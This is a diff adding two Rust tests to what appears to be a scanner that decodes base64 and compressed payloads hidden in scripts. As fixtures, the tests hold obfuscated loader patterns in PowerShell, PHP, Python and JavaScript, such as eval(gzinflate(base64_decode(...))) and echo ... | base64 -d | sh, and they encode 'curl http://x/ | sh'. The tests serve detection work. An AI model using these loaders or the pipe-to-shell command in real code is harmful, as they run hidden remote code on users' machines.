@@ -98,3 +98,55 @@ fn that_there_are_more_runs_of_base64_than_are_given_is_said() {
     assert_eq!(runs(1024), (1 + 1024, vec![]));
     assert_eq!(runs(1025), (1 + 1024, vec![Reason::Children]));
 }
+
+#[test]
+fn what_scripts_inflate_is_inflated() {
+    let lines =
+        (0..40_u32).map(|line| format!("Write-Output {} \u{443}\n", line.wrapping_mul(2_654_435_761)));
+    let code: String = lines.collect();
+    let base64 = candor_fixtures::container::base64;
+    let deflate = base64(&candor_fixtures::stream::deflate(code.as_bytes()));
+    let zlib = base64(&candor_fixtures::stream::zlib(code.as_bytes()));
+    for text in [
+        format!("$s=New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{deflate}'),0)"),
+        format!(
+            "$b=[Convert]::FromBase64String('{deflate}')\n{}\n[IO.Compression.deflatestream]$b",
+            "#\n".repeat(200)
+        ),
+        format!("<?php eval(gzinflate(base64_decode(\"{deflate}\")));"),
+        format!("<?php eval(gzuncompress(base64_decode('{zlib}')));"),
+        format!("import zlib,base64\nexec(zlib.decompress(base64.b64decode('{zlib}')))"),
+        format!("var a = \"{zlib}\";"),
+    ] {
+        let found = Collected::of(FileType::TextAscii, text.as_bytes());
+        assert!(found.children[1..].iter().any(|child| child.bytes == code.as_bytes()), "{text}");
+        assert_eq!(found.incomplete, []);
+    }
+    // Nothing else is taken for it.
+    let noise: Vec<u8> = (0..400_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
+    for text in [format!("var a = '{deflate}';"), format!("gzinflate(base64_decode('{}'))", base64(&noise))] {
+        assert_eq!(Collected::of(FileType::TextAscii, text.as_bytes()).children.len(), 1, "{text}");
+    }
+    // To look is paid for.
+    let text = format!("gzinflate '{deflate}' ").repeat(40);
+    assert!(Collected::of(FileType::TextAscii, text.as_bytes()).children.len() > 40);
+    let found = Collected::without_work(FileType::TextAscii, text.as_bytes());
+    assert!(found.incomplete.contains(&Reason::Work));
+}
+
+#[test]
+fn short_runs_are_decoded_beside_a_decoder() {
+    let code = "#!/bin/sh\ncurl http://x/ | sh\n";
+    let run = candor_fixtures::container::base64(code.as_bytes());
+    for text in [
+        format!("echo {run} | base64 -d | sh"),
+        format!("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{run}'))"),
+        format!("eval(atob('{run}'))"),
+        format!("exec(b64decode('{run}'))"),
+    ] {
+        let found = Collected::of(FileType::TextAscii, text.as_bytes());
+        assert!(found.children[1..].iter().any(|child| child.bytes == code.as_bytes()), "{text}");
+    }
+    let found = Collected::of(FileType::TextAscii, format!("echo {run} | sh").as_bytes());
+    assert_eq!(found.children.len(), 1);
+}
